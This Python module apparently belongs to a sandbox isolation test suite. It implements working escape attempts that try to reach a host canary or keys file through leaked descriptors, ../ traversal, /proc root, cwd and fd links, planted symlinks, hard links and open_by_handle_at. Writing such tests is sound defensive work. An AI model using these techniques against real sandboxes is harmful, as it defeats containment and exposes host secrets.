"""Attacks around the root: by what was kept open, by links, by names and handles without a path."""

from __future__ import annotations

import ctypes
import os
import stat
import tempfile
from functools import partial

from .facts import Facts
from .files import has_token
from .kernel_calls import libc
from .registry import OWN_DESCRIPTORS, Stopped, attack, first_reached

_UP = "../" * 40


@attack
def kept_descriptors(facts: Facts) -> str:
    """Find a descriptor that leads out: a folder, a file of others, a socket that is no channel."""
    found = []
    for fd in range(1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        is_stream = stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode)
        is_null = stat.S_ISCHR(mode) and os.fstat(fd).st_rdev == os.makedev(1, 3)
        if stat.S_ISDIR(mode):
            _escape_from(facts, fd)
        if fd not in OWN_DESCRIPTORS and (fd > 2 or not (is_stream or is_null)):
            nameless = "" if os.fstat(fd).st_nlink else " without a name"
            found.append(f"{fd}: {stat.filemode(mode)}{nameless}")
    # A program has none. A worker has two sockets, to the platform and for its log records, and
    # the page in which it counts its calls.
    rest = [each for each in found if not each.endswith(" without a name")]
    if len(found) <= 3 and len(rest) <= 2 and all(": s" in each for each in rest):
        raise Stopped(f"only {found}")
    return ", ".join(found)


def _escape_from(facts: Facts, folder: int) -> None:
    os.close(os.open(_UP + facts.files["canary"].lstrip("/"), os.O_RDONLY, dir_fd=folder))


@attack
def parent_folders(facts: Facts) -> str:
    """Climb above the root from the working folder."""
    return has_token(facts, _UP + facts.files["canary"].lstrip("/"))


def _by_links(facts: Facts, link: str) -> str:
    pids = ["1", str(os.getppid()), *map(str, facts.pids.values())]
    paths = [f"/proc/{pid}/{link}/{_UP}{facts.files['canary'].lstrip('/')}" for pid in pids]
    return first_reached({path: partial(has_token, facts, path) for path in paths})


@attack
def proc_root_links(facts: Facts) -> str:
    """Go through the root link of a process that has another root."""
    return _by_links(facts, "root")


@attack
def proc_cwd_links(facts: Facts) -> str:
    """Go through the working folder of a process that has another root."""
    return _by_links(facts, "cwd")


@attack
def proc_fd_links(facts: Facts) -> str:
    """Open again what a process of the platform has open."""
    ways = {}
    for pid in ("1", str(os.getppid()), *map(str, facts.pids.values())):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            if stat.S_ISREG(_mode(path)):
                ways[path] = partial(has_token, facts, path)
    return first_reached(ways)


def _mode(path: str) -> int:
    try:
        return os.stat(path).st_mode
    except OSError:
        return 0


@attack
def planted_link(facts: Facts) -> str:
    """Follow symbolic links out of the folders that the sandbox may write."""
    ways = {}
    for folder in (facts.files["data"], tempfile.gettempdir()):
        link = os.path.join(tempfile.mkdtemp(dir=folder), "link")
        os.symlink(facts.files["keys"], link)
        ways[folder] = partial(has_token, facts, link)
    return first_reached(ways)


@attack
def hard_link(facts: Facts) -> str:
    """Give a file of the host a second name in the own data folder."""
    name = os.path.join(tempfile.mkdtemp(dir=facts.files["data"]), "name")
    os.link(facts.files["canary"], name)
    has_token(facts, name)
    os.unlink(name)
    return name


class _Handle(ctypes.Structure):
    _fields_ = (
        ("bytes", ctypes.c_uint),
        ("type", ctypes.c_int),
        ("handle", ctypes.c_ubyte * 128),
    )


@attack
def file_handle(facts: Facts) -> str:
    """Open a file of the host by its handle, without any path."""
    raw = bytes.fromhex(facts.handle)
    if not raw:
        raise Stopped("the file system gives no handles")
    handle = _Handle(len(raw), facts.handle_type, (ctypes.c_ubyte * 128)(*raw))
    folder = os.open(facts.files["data"], os.O_RDONLY)
    fd = libc("open_by_handle_at", folder, handle, os.O_RDONLY)
    if facts.token.encode() not in os.read(fd, 4096):
        raise Stopped("another file")
    return "the canary"
